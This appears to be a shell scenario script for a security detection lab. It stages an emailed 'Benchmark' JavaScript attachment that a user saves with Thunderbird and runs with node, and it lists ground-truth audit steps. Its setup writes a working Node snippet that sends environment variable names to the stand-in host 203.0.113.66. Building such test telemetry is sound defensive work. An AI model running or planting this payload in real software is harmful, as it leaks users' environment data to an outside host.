# A program in JavaScript, saved by the real mail client, run by name.
title="Attached JavaScript program saved by Thunderbird and run with node"
what="Thunderbird, the real one, reads dev's mailbox over IMAP from Dovecot on the host itself and saves bench.js into ~/work. dev runs node bench.js in a terminal; it reads the names of the environment and posts them to 203.0.113.66."
host=ws3.example.org user=dev daemons="cron dovecot" audit_rules=audit-wide.rules

setup() {
  dovecot_config
  install -d -o dev -g dev /home/dev/work
  printf 'const http = require("http");\nconst r = http.request({ host: "203.0.113.66", port: 80, method: "POST", path: "/b" }, s => s.resume());\nr.end(Object.keys(process.env).join(","));\nconsole.log("running");\n' > "$base/out/bench.js"
}
act() {
  small_talk 2
  display_up
  mail_in --from peer@example.net --to dev@example.org --subject "Benchmark" --attach "$base/out/bench.js:text/javascript"
  wait_mail dev 1; wait_log 'peer@example.net'
  thunderbird_as dev save bench.js /home/dev/work
  wait_file /home/dev/work/bench.js 20
  console_as dev <<'L'
cd work
node bench.js
L
  desktop_close
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*/home/dev/work/bench.js' 'the mail client writes the attachment'
  exec_step execute 'node bench.js' 'node runs it'
  net_step beacon 'node 203.0.113.66:80' 'and it posts'
}
